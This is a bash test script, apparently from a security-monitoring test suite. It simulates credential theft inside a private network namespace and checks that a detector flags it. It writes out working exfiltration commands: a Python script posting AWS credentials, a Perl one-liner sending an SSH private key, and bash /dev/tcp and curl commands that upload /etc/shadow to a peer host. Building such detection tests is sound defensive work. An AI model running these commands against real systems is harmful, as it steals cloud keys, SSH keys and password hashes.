#!/bin/bash
# desc: credentials read and carried off the host by the process that read them (to a host in a namespace of our own): a python script posting ~/.aws/credentials, perl sending an SSH key over a socket, bash's own $(<file) into /dev/tcp, curl uploading /etc/shadow with --data-binary @file
# mitre: T1041, T1552.001, T1552.004, T1003.008
# expect: credential_read_then_sent_out*4
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

netns_create
in_ns timeout 20 /usr/bin/python3 - "$PEER" <<'PY' &
import socket, sys, threading
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind((sys.argv[1], 8443)); l.listen(8); l.settimeout(20)
def drain(c):
    c.settimeout(5)
    try:
        while c.recv(65536):
            pass
        c.sendall(b"HTTP/1.0 200 OK\r\n\r\n")
    except OSError:
        pass
    c.close()
try:
    while True:
        c, _ = l.accept()
        threading.Thread(target=drain, args=(c,), daemon=True).start()
except socket.timeout:
    pass
PY
wait_listen "$PEER" 8443

# The throwaway user's credentials.
install -d -m 700 -o "$ATTACK_UID" -g "$ATTACK_GID" "$ATTACK_HOME/.aws" "$ATTACK_HOME/.ssh"
undo "rm -rf '$ATTACK_HOME/.aws' '$ATTACK_HOME/.ssh'"
printf '[default]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = x\n' \
	>"$ATTACK_HOME/.aws/credentials"
ssh-keygen -q -t ed25519 -N '' -f "$ATTACK_HOME/.ssh/id_ed25519" >/dev/null
chown -R "$ATTACK_UID:$ATTACK_GID" "$ATTACK_HOME/.aws" "$ATTACK_HOME/.ssh"

cat >steal.py <<'PY'
import os, socket, sys
data = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
s = socket.create_connection((sys.argv[1], 8443), timeout=5)
s.sendall(b"POST /c HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(data) + data)
s.shutdown(socket.SHUT_WR); s.recv(100)
PY
as_user /usr/bin/python3 steal.py "$PEER"
as_user perl -MIO::Socket::INET -e 'open(my $f, "<", "$ENV{HOME}/.ssh/id_ed25519") or die; local $/; my $k = <$f>; my $s = IO::Socket::INET->new(PeerAddr => "$ARGV[0]:8443") or die; print $s $k; close $s' "$PEER"
bash -c 'k=$(</etc/shadow); exec 3<>/dev/tcp/'"$PEER"'/8443; printf "%s" "$k" >&3; exec 3>&-'
curl -s -m 5 --data-binary @/etc/shadow "http://$PEER:8443/u" >/dev/null || true
